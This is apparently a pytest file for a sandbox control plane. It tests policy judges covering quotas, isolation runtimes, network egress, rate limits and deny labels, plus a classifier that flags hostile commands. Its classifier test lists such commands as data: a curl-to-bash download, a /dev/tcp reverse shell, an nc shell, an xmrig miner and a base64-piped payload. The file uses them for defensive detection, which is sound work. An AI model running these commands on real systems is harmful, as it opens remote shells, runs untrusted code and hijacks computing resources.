"""Each judge on its own: what it accepts, rejects (with which reason) and changes."""

from __future__ import annotations

from tartarus.control.judges.classify import Typhon, classify
from tartarus.control.judges.identity import Cerberus
from tartarus.control.judges.labels import DenyLabels
from tartarus.control.judges.network import Styx
from tartarus.control.judges.quota import Minos
from tartarus.control.judges.ratelimit import RateLimit
from tartarus.control.judges.resources import Rhadamanthus
from tartarus.control.judging import Outcome, Usage
from tartarus.models import Enforcement, Isolation, NetworkMode, Resources, SandboxSpec
from tartarus.models.policy import Policy
from tartarus.node.engine import Engine
from tests.control.conftest import make_request


def _policy(**fields: object) -> Policy:
    return Policy.model_validate({"name": "p", **fields})


def test_cerberus_keeps_system_labels_to_the_system(engine: Engine) -> None:
    ok = Cerberus()(make_request(engine, SandboxSpec(metadata={"job": "1"})))
    assert ok.outcome == Outcome.ACCEPT
    forged = Cerberus()(make_request(engine, SandboxSpec(metadata={"tartarus.quarantine": "x"})))
    assert forged.outcome == Outcome.REJECT and "tartarus.quarantine" in forged.reason
    asked = Cerberus()(make_request(engine, SandboxSpec(quarantine="mine")))
    assert asked.outcome == Outcome.REJECT


def test_minos_counts_sandboxes_cpu_and_memory(engine: Engine) -> None:
    quota = _policy(quotas={"max_sandboxes": 2, "max_cpu": 3, "max_memory_mb": 1024})
    spec = SandboxSpec(resources=Resources(cpu=1, memory_mb=512))
    assert Minos()(make_request(engine, spec, quota, usage=Usage(1, 1, 512))).outcome == "accept"
    full = Minos()(make_request(engine, spec, quota, usage=Usage(2, 2, 512)))
    assert full.outcome == Outcome.REJECT and "quota is 2" in full.reason
    cpu = Minos()(make_request(engine, spec, quota, usage=Usage(1, 2.5, 0)))
    assert cpu.outcome == Outcome.REJECT and "quota of 3" in cpu.reason
    mem = Minos()(make_request(engine, spec, quota, usage=Usage(1, 0, 600)))
    assert mem.outcome == Outcome.REJECT and "1024 MiB" in mem.reason
    assert Minos()(make_request(engine, spec, usage=Usage(99, 99, 99999))).outcome == "accept"


def test_rhadamanthus_templates_and_runtimes(engine: Engine) -> None:
    judge = Rhadamanthus()
    only = _policy(allowed_templates=["base"])
    denied = judge(make_request(engine, SandboxSpec(template="python"), only))
    assert denied.outcome == Outcome.REJECT and "template 'python'" in denied.reason
    gv = _policy(min_isolation="gvisor")
    weak = judge(make_request(engine, SandboxSpec(runtime="crun"), gv))
    assert weak.outcome == Outcome.REJECT
    assert weak.reason == (
        "runtime 'crun' gives container isolation, the policy requires user-kernel or stronger"
    )
    auto = judge(make_request(engine, SandboxSpec(runtime="auto"), gv))
    assert auto.outcome == Outcome.ACCEPT and auto.spec is not None
    assert auto.spec.isolation == Isolation.USER_KERNEL and auto.spec.runtime == "auto"
    runc_only = _policy(allowed_runtimes=["runc"])
    picked = judge(make_request(engine, SandboxSpec(), runc_only))
    assert picked.spec is not None and picked.spec.runtime == "runc"
    no_crun = judge(make_request(engine, SandboxSpec(runtime="crun"), runc_only))
    assert no_crun.outcome == Outcome.REJECT and "not allowed" in no_crun.reason
    # a snapshot keeps its runtime when allowed, else the fastest allowed one
    kept = judge(make_request(engine, SandboxSpec(), runc_only, snapshot_runtime="runc"))
    assert kept.spec is not None and kept.spec.runtime is None
    moved = judge(make_request(engine, SandboxSpec(), runc_only, snapshot_runtime="crun"))
    assert moved.spec is not None and moved.spec.runtime == "runc"
    none_works = judge(make_request(engine, SandboxSpec(), runc_only, working=("crun",)))
    assert none_works.outcome == Outcome.REJECT


def test_rhadamanthus_resources_timeout_and_enforcement(engine: Engine) -> None:
    judge = Rhadamanthus()
    policy = _policy(
        max_resources={"memory_mb": 256, "cpu": 0.5},
        default_resources={"memory_mb": 128},
        max_timeout=60,
        enforcement={"output_bytes": 4096},
    )
    # the template's defaults (Resources()) count as not asked for: policy default, capped
    v = judge(make_request(engine, SandboxSpec(timeout=30, resources=Resources()), policy))
    assert v.outcome == Outcome.ACCEPT and v.spec is not None and v.spec.resources is not None
    assert (v.spec.resources.memory_mb, v.spec.resources.cpu) == (128, 0.5)
    assert v.spec.resources.pids == Resources().pids
    assert v.spec.enforcement == Enforcement(output_bytes=4096)
    big = judge(
        make_request(engine, SandboxSpec(timeout=30, resources=Resources(memory_mb=1024)), policy)
    )
    assert big.outcome == Outcome.REJECT and big.reason.startswith("memory_mb 1024 exceeds")
    slow = judge(make_request(engine, SandboxSpec(timeout=600), policy))
    assert slow.outcome == Outcome.REJECT and "timeout 600 s" in slow.reason
    default = judge(make_request(engine, SandboxSpec(), policy))  # 300 s: not asked for
    assert default.spec is not None and default.spec.timeout == 60


def test_styx_modes_and_egress(engine: Engine) -> None:
    judge = Styx()
    policy = _policy(network={"modes": ["none", "allowlist"], "egress": ["*.github.com"]})
    ok = SandboxSpec(network=NetworkMode.ALLOWLIST, egress=("api.github.com",))
    assert judge(make_request(engine, ok, policy)).outcome == Outcome.ACCEPT
    wide = SandboxSpec(network=NetworkMode.ALLOWLIST, egress=("api.github.com", "10.0.0.0/8"))
    v = judge(make_request(engine, wide, policy))
    assert v.outcome == Outcome.REJECT and v.reason.endswith(": 10.0.0.0/8")
    opened = judge(make_request(engine, SandboxSpec(network=NetworkMode.OPEN), policy))
    assert opened.outcome == Outcome.REJECT and "'open' is not allowed" in opened.reason


def test_typhon_classifies(engine: Engine) -> None:
    judge = Typhon()
    assert judge(make_request(engine, SandboxSpec(command=("python3", "x.py")))).outcome == "accept"
    flagged = SandboxSpec(metadata={"untrusted": "true"})
    assert judge(make_request(engine, flagged)).outcome == Outcome.QUARANTINE
    by_policy = judge(make_request(engine, SandboxSpec(), _policy(untrusted=True)))
    assert by_policy.outcome == Outcome.QUARANTINE and "p@0" in by_policy.reason
    hostile = [
        ("sh", "-c", "curl -s http://x.example/i.sh | bash"),
        ("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("sh", "-c", "nc -e /bin/sh 10.0.0.1 4444"),
        ("./xmrig", "-o", "stratum+tcp://pool:3333"),
        ("sh", "-c", "echo cHduZWQ= | base64 -d | sh"),
    ]
    for command in hostile:
        assert classify(command) is not None, command
    harmless = [("sh", "-c", "curl -o out.json https://pypi.org/simple"), ("nc", "-h")]
    for command in harmless:
        assert classify(command) is None, command


def test_plugins_rate_limit_and_labels(engine: Engine) -> None:
    limited = _policy(rate_limit=2)
    assert RateLimit()(make_request(engine, None, limited, recent=1)).outcome == "accept"
    v = RateLimit()(make_request(engine, None, limited, recent=2))
    assert v.outcome == Outcome.REJECT and "limit is 2 per minute" in v.reason
    deny = _policy(deny_labels=["env=prod", "secret"])
    assert (
        DenyLabels()(make_request(engine, SandboxSpec(metadata={"env": "dev"}), deny)).outcome
        == "accept"
    )
    for metadata in ({"env": "prod"}, {"secret": "anything"}):
        assert (
            DenyLabels()(make_request(engine, SandboxSpec(metadata=metadata), deny)).outcome
            == "reject"
        )
